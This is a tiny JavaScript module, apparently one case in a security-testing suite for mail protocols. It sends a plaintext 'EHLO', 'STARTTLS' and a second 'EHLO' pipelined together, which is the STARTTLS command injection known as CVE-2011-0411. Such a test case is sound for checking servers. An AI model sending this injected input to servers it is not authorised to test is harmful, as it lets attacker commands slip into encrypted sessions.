import { talk } from '../attack.mjs';

/** Sends a greeting in the clear behind STARTTLS. Source: Wietse Venema, STARTTLS command injection, CVE-2011-0411; USENIX NO STARTTLS, 2021. */
export default talk({ sent: 0, steps: () => ['EHLO a\r\nSTARTTLS\r\nEHLO b\r\n'] });
